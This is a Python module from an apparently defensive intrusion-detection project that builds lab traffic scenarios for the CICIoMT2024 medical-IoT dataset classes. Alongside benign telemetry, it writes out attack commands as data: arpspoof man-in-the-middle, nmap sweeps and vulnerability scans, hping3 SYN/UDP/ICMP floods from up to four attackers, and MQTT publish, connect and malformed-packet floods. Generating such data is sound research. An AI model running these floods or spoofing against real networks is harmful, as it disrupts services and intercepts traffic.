"""Benign traffic and attack scenarios of the lab, one per CICIoMT2024 Wi-Fi/MQTT class.

A scenario is a list of :class:`Step` commands, each run inside one host's namespace. Foreground
steps are the traffic of the class and the capture ends once all of them have exited. Background
steps (a device's telemetry during an attack) are stopped then. Every command is wrapped in
``timeout`` and every flood also has a packet or message count, so each step ends on its own.

The sizes come from a :class:`LabScale`: ``small`` for quick runs, ``full`` for captures about
as large as the reference captures (tens of thousands of packets per flood).
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from dataclasses import dataclass

from hclr_ids.schema import CLASSES

#: Window size (packets per row) of the DoS and DDoS classes in CICIoMT2024; every other class uses 10.
DOS_WINDOW = 100
DEFAULT_WINDOW = 10

#: Hosts used as attackers by the DDoS scenarios.
DDOS_ATTACKERS = ("atk1", "atk2", "atk3", "atk4")

#: Interface inside each host namespace (see ``topology.HOST_INTERFACE``).
_INTERFACE = "eth0"


def window_for_class(class_name: str) -> int:
    """Return the CICIoMT2024 window size: 100 packets for every DoS/DDoS class (TCP_IP and MQTT), else 10."""
    if class_name not in CLASSES:
        raise ValueError(f"unknown class {class_name!r}; expected one of {', '.join(CLASSES)}")
    return DOS_WINDOW if ("-DoS-" in class_name or "-DDoS-" in class_name) else DEFAULT_WINDOW


@dataclass(frozen=True)
class LabScale:
    """Packet counts and durations of one lab run."""

    name: str
    flood_packets: int
    """hping3 packets of a single-attacker DoS flood."""
    ddos_packets: int
    """hping3 packets per attacker of a DDoS flood."""
    flood_interval_us: int
    """hping3 interval between packets of one attacker, in microseconds."""
    flood_seconds: int
    """``timeout`` of every flood command, in seconds."""
    publish_messages: int
    """MQTT PUBLISH messages of a single-attacker publish flood (per attacker for DDoS: half)."""
    connect_sessions: int
    """MQTT sessions of a single-attacker connect flood (per attacker for DDoS: a quarter)."""
    malformed_messages: int
    """Connections, each with one malformed MQTT input."""
    benign_seconds: int
    """Length of the benign scenario's telemetry, HTTP, DNS and ping traffic, in seconds."""
    arp_spoof_seconds: int
    port_scan_ports: int
    """Ports 1..N probed by the port scan."""
    scan_seconds: int
    """``timeout`` of the port, OS and ping-sweep scans, in seconds."""
    vuln_scan_seconds: int
    """``timeout`` of the version and vulnerability scan (NSE scripts), in seconds."""
    ping_sweeps: int
    """1: one ARP ping sweep of the /24; 2: also an ICMP echo sweep."""
    os_scan_hosts: int
    """Targets of the OS scan: the broker, then dev1, dev2 (at most 3)."""


SCALES: dict[str, LabScale] = {
    "small": LabScale(
        name="small", flood_packets=3000, ddos_packets=800, flood_interval_us=100, flood_seconds=10,
        publish_messages=3000, connect_sessions=300, malformed_messages=100, benign_seconds=10,
        arp_spoof_seconds=10, port_scan_ports=500, scan_seconds=30, vuln_scan_seconds=20, ping_sweeps=1,
        os_scan_hosts=1,
    ),
    "full": LabScale(
        name="full", flood_packets=15000, ddos_packets=4000, flood_interval_us=50, flood_seconds=20,
        publish_messages=15000, connect_sessions=1600, malformed_messages=360, benign_seconds=60,
        arp_spoof_seconds=30, port_scan_ports=2000, scan_seconds=60, vuln_scan_seconds=90, ping_sweeps=2,
        os_scan_hosts=3,
    ),
}


@dataclass(frozen=True)
class Step:
    """One command run inside the namespace of ``host``."""

    host: str
    argv: tuple[str, ...]
    delay_s: float = 0.0
    """Seconds after the scenario starts (the capture's lead-in excluded)."""
    background: bool = False
    """Stopped when every foreground step has exited, instead of being waited for."""
    tools: tuple[str, ...] = ()
    """Executables a shell-script step runs; empty means the command itself."""
    ok_exit_codes: tuple[int, ...] = (0, 124)
    """Exit statuses that are no failure; 124 is ``timeout`` ending the command at its limit."""

    @property
    def command(self) -> str:
        """The executable run under ``timeout`` (or the first word when there is no ``timeout``)."""
        return self.argv[4] if self.argv[0] == "timeout" else self.argv[0]

    @property
    def label(self) -> str:
        return f"{self.host}-{self.command.rsplit('/', 1)[-1]}"

    @property
    def limit_s(self) -> float:
        """The ``timeout`` bound of the command (plus its kill grace), or infinity without one."""
        if self.argv[0] != "timeout":
            return float("inf")
        args = list(self.argv[1:])
        grace = 0.0
        if args[0] == "-k":
            grace = float(args[1])
            args = args[2:]
        return float(args[0]) + grace


@dataclass(frozen=True)
class Scenario:
    """One capture: the traffic of one class, recorded on the bridge port of ``capture_host``."""

    name: str
    class_name: str
    capture_host: str
    build: Callable[[LabScale, str], list[Step]]
    """Return the steps for a scale and the broker's address."""
    description: str

    @property
    def window(self) -> int:
        return window_for_class(self.class_name)

    def steps(self, scale: LabScale, broker: str) -> list[Step]:
        return self.build(scale, broker)


# --- building blocks --------------------------------------------------------------------------

def _bounded(seconds: float, *argv: str) -> tuple[str, ...]:
    """Wrap ``argv`` in ``timeout`` (SIGTERM after ``seconds``, SIGKILL 3 s later)."""
    return ("timeout", "-k", "3", f"{seconds:g}", *argv)


def _vitals(device: str) -> str:
    """Return a ~70-byte JSON telemetry message of a bedside device."""
    return f'{{"dev":"{device}","hr":72,"spo2":98,"temp":36.6,"bp":"120/80","rr":16}}'


def _telemetry(device: str, broker: str, *, qos: int, repeat: int, every_s: float,
               background: bool = False, delay_s: float = 0.0) -> Step:
    seconds = repeat * every_s + 5
    argv = _bounded(seconds, "mosquitto_pub", "-h", broker, "-i", f"{device}-telemetry",
                    "-t", f"iomt/{device}/vitals", "-q", str(qos), "-m", _vitals(device),
                    "--repeat", str(repeat), "--repeat-delay", f"{every_s:g}")
    return Step(device, argv, delay_s=delay_s, background=background)


def _background_telemetry(broker: str, seconds: int) -> Step:
    """Return a background step: one device publishing once a second for the length of an attack."""
    return _telemetry("dev1", broker, qos=0, repeat=max(1, seconds), every_s=1.0, background=True)


def _python_tool(seconds: float, *args: str) -> tuple[str, ...]:
    return _bounded(seconds, sys.executable, "-m", "hclr_ids.lab.traffic", *args)


def _http_rounds(device: str, broker: str, rounds: int, every_s: float, *, delay_s: float = 0.0) -> Step:
    fetch = "; ".join(f"curl -s -o /dev/null http://{broker}/{page}"
                      for page in ("status.json", "index.html", "firmware.bin"))
    script = f"for i in $(seq {rounds}); do {fetch}; sleep {every_s:g}; done"
    return Step(device, _bounded(rounds * (every_s + 5) + 5, "sh", "-c", script), delay_s=delay_s, tools=("curl",))


# --- benign -------------------------------------------------------------------------------------

def _benign(scale: LabScale, broker: str) -> list[Step]:
    seconds = scale.benign_seconds
    half_second_repeats = max(1, 2 * seconds)
    return [
        Step("dev3", _bounded(seconds + 3, "mosquitto_sub", "-h", broker, "-i", "dev3-monitor",
                              "-t", "iomt/#", "-q", "1"), background=True),
        _telemetry("dev1", broker, qos=0, repeat=half_second_repeats, every_s=0.5, delay_s=0.5),
        _telemetry("dev2", broker, qos=1, repeat=half_second_repeats, every_s=0.5, delay_s=0.5),
        _telemetry("dev3", broker, qos=1, repeat=max(1, seconds), every_s=1.0, delay_s=0.5),
        _http_rounds("dev3", broker, rounds=max(1, seconds // 4), every_s=3.0, delay_s=1.0),
        Step("dev1", _python_tool(seconds + 5, "dns", broker, "--count", str(max(1, int(seconds / 0.7))),
                                  "--interval", "0.7", "--max-seconds", str(seconds + 2)), delay_s=1.0),
        Step("dev2", _bounded(seconds + 5, "ping", "-c", str(max(1, seconds)), "-i", "1", broker), delay_s=1.0),
    ]


# --- spoofing and reconnaissance ------------------------------------------------------------------

def _arp_spoofing(scale: LabScale, broker: str) -> list[Step]:
    seconds = scale.arp_spoof_seconds
    victim = _address_of(broker, 21)
    # Forwarding on the attacker keeps the poisoned traffic flowing (a man in the middle).
    spoof = (f"sysctl -qw net.ipv4.ip_forward=1; "
             f"timeout -k 10 {seconds} arpspoof -i {_INTERFACE} -t {victim} -r {broker}; "
             f"sysctl -qw net.ipv4.ip_forward=0")
    return [
        _telemetry("dev1", broker, qos=1, repeat=2 * seconds + 8, every_s=0.5, background=True),
        _telemetry("dev2", broker, qos=0, repeat=seconds + 4, every_s=1.0, background=True),
        Step("atk1", _bounded(seconds + 20, "sh", "-c", spoof), delay_s=2.0, tools=("arpspoof",)),
        _http_rounds("dev1", broker, rounds=max(1, seconds // 5), every_s=5.0, delay_s=3.0),
    ]


def _ping_sweep(scale: LabScale, broker: str) -> list[Step]:
    subnet = _address_of(broker, 0) + "/24"
    steps = [_background_telemetry(broker, scale.scan_seconds),
             Step("atk1", _bounded(scale.scan_seconds, "nmap", "-n", "-sn", subnet), delay_s=0.5)]
    if scale.ping_sweeps > 1:
        # An ICMP echo sweep sent at the IP layer, after the ARP sweep.
        icmp = "sleep 1; exec nmap -n -sn -PE --send-ip " + subnet
        steps.append(Step("atk1", _bounded(scale.scan_seconds + 1, "sh", "-c", icmp), delay_s=0.5, tools=("nmap",)))
    return steps


def _port_scan(scale: LabScale, broker: str) -> list[Step]:
    return [_background_telemetry(broker, scale.scan_seconds),
            Step("atk1", _bounded(scale.scan_seconds, "nmap", "-n", "-Pn", "-sS", "-T4",
                                  "-p", f"1-{scale.port_scan_ports}", broker), delay_s=0.5)]


def _os_scan(scale: LabScale, broker: str) -> list[Step]:
    targets = [broker, _address_of(broker, 21), _address_of(broker, 22)][: max(1, scale.os_scan_hosts)]
    return [_background_telemetry(broker, scale.scan_seconds),
            # -O first SYN-scans nmap's 1000 most common ports of each target, as a plain `nmap -O` does.
            Step("atk1", _bounded(scale.scan_seconds, "nmap", "-n", "-Pn", "-O", "--osscan-guess",
                                  "--max-os-tries", "2", *targets), delay_s=0.5)]


def _vuln_scan(scale: LabScale, broker: str) -> list[Step]:
    # NOTE: the NSE scripts rarely finish within the limit, so timeout usually ends this scan.
    return [_background_telemetry(broker, scale.vuln_scan_seconds),
            Step("atk1", _bounded(scale.vuln_scan_seconds, "nmap", "-n", "-Pn", "-sV", "-p", "22,53,80,1883",
                                  "--script", "vuln and not (external or dos or broadcast)", broker),
                 delay_s=0.5)]


# --- TCP/IP floods ------------------------------------------------------------------------------

_HPING_MODES: dict[str, tuple[str, ...]] = {
    "SYN": ("-S", "-p", "80"),
    "TCP": ("-p", "80", "-d", "64"),  # no flag set: a plain TCP flood
    "UDP": ("--udp", "-p", "5683", "-d", "64"),
    "ICMP": ("--icmp", "-d", "56"),
}


def _hping_flood(mode: str, attackers: tuple[str, ...]) -> Callable[[LabScale, str], list[Step]]:
    def build(scale: LabScale, broker: str) -> list[Step]:
        single = len(attackers) == 1
        count = scale.flood_packets if single else scale.ddos_packets
        interval = scale.flood_interval_us if single else scale.flood_interval_us * 4
        floods = [Step(host, _bounded(scale.flood_seconds, "hping3", "-I", _INTERFACE, "-q", *_HPING_MODES[mode],
                                      "-c", str(count), "-i", f"u{interval}", broker), delay_s=0.5,
                       ok_exit_codes=(0, 1, 124))  # hping3 exits with 1 when no probe got a reply
                  for host in attackers]
        return [_background_telemetry(broker, scale.flood_seconds), *floods]

    return build


# --- MQTT floods --------------------------------------------------------------------------------

def _publish_flood(attackers: tuple[str, ...]) -> Callable[[LabScale, str], list[Step]]:
    def build(scale: LabScale, broker: str) -> list[Step]:
        # Each DDoS attacker sends half the DoS count: mosquitto_pub coalesces messages into fewer,
        # larger segments when several clients flood at once, so a quarter each gives too few frames.
        messages = scale.publish_messages if len(attackers) == 1 else scale.publish_messages // 2
        payload = '{"hr":72,"spo2":98,"temp":36.6,"bp":"120/80"}'
        floods = [Step(host, _bounded(scale.flood_seconds, "mosquitto_pub", "-h", broker, "-i", f"flood-{host}",
                                      "--nodelay", "-q", "0", "-t", "iomt/ward3/pump07/vitals", "-m", payload,
                                      "--repeat", str(messages), "--repeat-delay", "0"), delay_s=0.5)
                  for host in attackers]
        return [_background_telemetry(broker, scale.flood_seconds), *floods]

    return build


def _connect_flood(attackers: tuple[str, ...]) -> Callable[[LabScale, str], list[Step]]:
    def build(scale: LabScale, broker: str) -> list[Step]:
        sessions = scale.connect_sessions // len(attackers)
        floods = [Step(host, _python_tool(scale.flood_seconds, "connect", broker, "--sessions", str(sessions),
                                          "--threads", "4", "--client-prefix", host,
                                          "--max-seconds", str(scale.flood_seconds - 2)), delay_s=0.5)
                  for host in attackers]
        return [_background_telemetry(broker, scale.flood_seconds), *floods]

    return build


def _malformed(scale: LabScale, broker: str) -> list[Step]:
    seconds = int(scale.malformed_messages * 0.08) + 5
    return [_telemetry("dev1", broker, qos=1, repeat=seconds, every_s=1.0, background=True),
            Step("atk1", _python_tool(seconds + 3, "malformed", broker, "--count", str(scale.malformed_messages),
                                      "--interval", "0.05", "--max-seconds", str(seconds)), delay_s=0.5)]


def _address_of(broker: str, host_number: int) -> str:
    """Return the address with the last octet of ``broker`` replaced by ``host_number``."""
    return broker.rsplit(".", 1)[0] + f".{host_number}"


_ONE = ("atk1",)

#: Every scenario, by name, in the order a full run captures them.
SCENARIOS: dict[str, Scenario] = {s.name: s for s in (
    Scenario("benign", "Benign", "broker", _benign,
             "MQTT telemetry of three devices and a monitor, HTTP fetches, DNS queries and ping"),
    Scenario("arp_spoofing", "ARP_Spoofing", "atk1", _arp_spoofing,
             "arpspoof poisoning a device and the broker both ways during telemetry and HTTP"),
    Scenario("recon_ping_sweep", "Recon-Ping_Sweep", "atk1", _ping_sweep, "nmap -sn over the /24"),
    Scenario("recon_port_scan", "Recon-Port_Scan", "atk1", _port_scan, "nmap SYN scan of the broker"),
    Scenario("recon_os_scan", "Recon-OS_Scan", "atk1", _os_scan,
             "nmap -O (with its top-1000-port SYN scan) against the broker (and two devices at full scale)"),
    Scenario("recon_vuln_scan", "Recon-VulScan", "atk1", _vuln_scan, "nmap -sV with the vuln NSE scripts"),
    Scenario("tcpip_dos_syn", "TCP_IP-DoS-SYN", "broker", _hping_flood("SYN", _ONE), "hping3 SYN flood"),
    Scenario("tcpip_dos_tcp", "TCP_IP-DoS-TCP", "broker", _hping_flood("TCP", _ONE), "hping3 flagless TCP flood"),
    Scenario("tcpip_dos_udp", "TCP_IP-DoS-UDP", "broker", _hping_flood("UDP", _ONE), "hping3 UDP flood"),
    Scenario("tcpip_dos_icmp", "TCP_IP-DoS-ICMP", "broker", _hping_flood("ICMP", _ONE), "hping3 ICMP echo flood"),
    Scenario("tcpip_ddos_syn", "TCP_IP-DDoS-SYN", "broker", _hping_flood("SYN", DDOS_ATTACKERS),
             "hping3 SYN flood from four attackers"),
    Scenario("tcpip_ddos_tcp", "TCP_IP-DDoS-TCP", "broker", _hping_flood("TCP", DDOS_ATTACKERS),
             "hping3 flagless TCP flood from four attackers"),
    Scenario("tcpip_ddos_udp", "TCP_IP-DDoS-UDP", "broker", _hping_flood("UDP", DDOS_ATTACKERS),
             "hping3 UDP flood from four attackers"),
    Scenario("tcpip_ddos_icmp", "TCP_IP-DDoS-ICMP", "broker", _hping_flood("ICMP", DDOS_ATTACKERS),
             "hping3 ICMP echo flood from four attackers"),
    Scenario("mqtt_dos_publish_flood", "MQTT-DoS-Publish_Flood", "broker", _publish_flood(_ONE),
             "mosquitto_pub PUBLISH flood"),
    Scenario("mqtt_ddos_publish_flood", "MQTT-DDoS-Publish_Flood", "broker", _publish_flood(DDOS_ATTACKERS),
             "mosquitto_pub PUBLISH flood from four attackers"),
    Scenario("mqtt_dos_connect_flood", "MQTT-DoS-Connect_Flood", "broker", _connect_flood(_ONE),
             "CONNECT/CONNACK/DISCONNECT sessions as fast as the broker answers"),
    Scenario("mqtt_ddos_connect_flood", "MQTT-DDoS-Connect_Flood", "broker", _connect_flood(DDOS_ATTACKERS),
             "CONNECT flood from four attackers"),
    Scenario("mqtt_malformed_data", "MQTT-Malformed_Data", "broker", _malformed,
             "connections sending nine kinds of malformed MQTT packets in turn"),
)}


def resolve_scenarios(names: list[str] | None) -> list[Scenario]:
    """Return the scenarios named by scenario or class name, in :data:`SCENARIOS` order; all for None."""
    if not names:
        return list(SCENARIOS.values())
    by_class = {scenario.class_name: scenario for scenario in SCENARIOS.values()}
    chosen: set[str] = set()
    for name in names:
        if name in SCENARIOS:
            chosen.add(name)
        elif name in by_class:
            chosen.add(by_class[name].name)
        else:
            raise ValueError(f"unknown lab scenario {name!r}; expected a scenario ({', '.join(SCENARIOS)}) "
                             "or a class name")
    return [scenario for scenario in SCENARIOS.values() if scenario.name in chosen]


def required_tools(scenarios: list[Scenario]) -> list[str]:
    """Return the executables the lab needs for ``scenarios``: the network, services, capture and traffic tools."""
    tools = ["ip", "ethtool", "sysctl", "timeout", "tcpdump", "mosquitto", "mosquitto_pub", "curl", "dnsmasq"]
    for scenario in scenarios:
        for step in scenario.steps(SCALES["small"], "10.0.0.10"):
            for tool in step.tools or (step.command,):
                if tool != sys.executable and tool not in tools:
                    tools.append(tool)
    return tools
